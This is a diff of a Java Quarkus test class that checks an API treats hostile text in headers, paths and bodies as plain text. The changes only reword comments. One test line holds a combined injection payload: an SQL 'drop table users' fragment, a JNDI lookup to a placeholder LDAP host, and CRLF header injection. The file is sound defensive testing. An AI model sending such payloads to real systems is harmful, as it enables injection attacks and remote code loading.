@@ -29,7 +29,7 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.FieldSource;
 import org.junit.jupiter.params.provider.MethodSource;
 
-/** Text that is code to somebody, be it SQL, a log, a header or a terminal, is text here. */
+/** Text that is code elsewhere (SQL, a log, a header, a terminal) is only text here. */
 @QuarkusTest
 @QuarkusTestResource(TestDatabase.class)
 class HostileTextTest {
@@ -173,7 +173,7 @@ class HostileTextTest {
     void takesNoCodeFromAHeader(ApiOperation operation) {
         for (String header :
                 List.of("User-Agent", "traceparent", "X-Request-Id", "Referer", "If-Match", "Accept-Language")) {
-            // What a client library lets out; RequestSmugglingTest sends the rest.
+            // Only what a client library can send. RequestSmugglingTest sends the rest.
             Response answer = operation.send(
                     withKey(tenant.apiKey())
                             .header(header, "'; drop table users; --${jndi:ldap://forged.invalid}\t%0d%0aforged"),
@@ -182,7 +182,7 @@ class HostileTextTest {
         }
     }
 
-    /** The caller's word for a trace is taken only where it is exactly one. */
+    /** A client's trace context is accepted only if it is well-formed. */
     @Test
     void makesATraceIdWhereTheCallersIsNone() {
         String id = "4bf92f3577b34da6a3ce929d0e0e4736";
@@ -214,14 +214,14 @@ class HostileTextTest {
         return (body.isEmpty() ? request : request.body(body)).request(operation.method(), path);
     }
 
-    /** The path of the operation with {@code text} in the place of each parameter. */
+    /** The operation's path with {@code text} as each parameter. */
     private Stream<String> pathsWith(String text, ApiOperation operation) {
         Stream<String> others = operation.parameters().keySet().stream()
                 .map(parameter -> operation.with(parameter, text).path(user));
         return operation.hasUser() ? Stream.concat(Stream.of(operation.path(text)), others) : others;
     }
 
-    /** The body with {@code text} in the place of each value. */
+    /** The body with {@code text} as each value. */
     private static Stream<String> bodiesWith(String text, String body) {
         return Pattern.compile("(?<=:)\\s*(\"[^\"]*\"|\\d+|true|\\{.*\\}(?=\\}))")
                 .matcher(body)
@@ -230,7 +230,7 @@ class HostileTextTest {
                         body.substring(0, value.start(1)) + TextNode.valueOf(text) + body.substring(value.end(1)));
     }
 
-    /** Members that the bodies of {@link ApiOperation} do not have. */
+    /** More bodies, with members that the bodies of {@link ApiOperation} do not have. */
     private static Map<String, Object> bodies(String text) {
         return Map.of(
                 "/api/groups/g", Map.of("name", text, "description", text),
